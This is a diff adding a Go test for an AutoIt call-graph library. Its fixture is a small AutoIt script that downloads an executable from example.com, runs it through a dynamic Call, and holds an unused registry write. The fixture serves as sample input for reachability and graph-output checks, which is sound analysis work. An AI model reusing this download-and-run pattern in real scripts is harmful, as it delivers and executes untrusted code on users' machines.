@@ -0,0 +1,93 @@
+package tests
+
+import (
+	"bytes"
+	"encoding/json"
+	"github.com/x0r19x91/libautoit/callgraph"
+	"github.com/x0r19x91/libautoit/parser"
+	"strings"
+	"testing"
+)
+
+const callScript = `AdlibRegister("_Tick", 1000)
+_Main()
+
+Func _Main()
+	Local $sUrl = _Url()
+	InetGet($sUrl, @TempDir & "\a.exe")
+	Call("_Run", @TempDir & "\a.exe")
+EndFunc
+
+Func _Url()
+	Return "http://example.com/a.exe"
+EndFunc
+
+Func _Run($sPath)
+	Run($sPath)
+EndFunc
+
+Func _Tick()
+EndFunc
+
+Func _Unused()
+	RegWrite("HKCU\Software\x", "y", "REG_SZ", "z")
+EndFunc
+`
+
+func TestCallGraph(t *testing.T) {
+	script, err := parser.ParseSource([]byte(callScript))
+	if err != nil {
+		t.Fatal(err)
+	}
+	g := callgraph.Build(script)
+
+	if !g.Reaches("Run") || !g.Reaches("_Tick") || g.Reaches("RegWrite") {
+		t.Errorf("wrong reachability")
+	}
+	var names []string
+	for _, n := range g.Path(g.Root, g.Node("run")) {
+		names = append(names, n.Name)
+	}
+	if got := strings.Join(names, " "); got != "<main> _Main _Run Run" {
+		t.Errorf("path = %q", got)
+	}
+	un := g.Unreachable()
+	if len(un) != 1 || un[0].Name != "_Unused" {
+		t.Errorf("unreachable = %v", un)
+	}
+
+	var buf bytes.Buffer
+	if err := g.WriteDOT(&buf); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(buf.String(), "digraph callgraph {") || !strings.Contains(buf.String(), "label=\"Call\"") {
+		t.Errorf("bad dot output:\n%s", buf.String())
+	}
+
+	var out struct {
+		Nodes []struct {
+			Name      string
+			Kind      string
+			Reachable bool
+		}
+		Edges []struct {
+			From, To, Kind string
+		}
+	}
+	buf.Reset()
+	if err := g.WriteJSON(&buf); err != nil {
+		t.Fatal(err)
+	}
+	if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, e := range out.Edges {
+		if e.From == "_Main" && e.To == "_Run" && e.Kind == "dynamic" {
+			found = true
+		}
+	}
+	if !found || len(out.Nodes) != 11 {
+		t.Errorf("unexpected json:\n%s", buf.String())
+	}
+}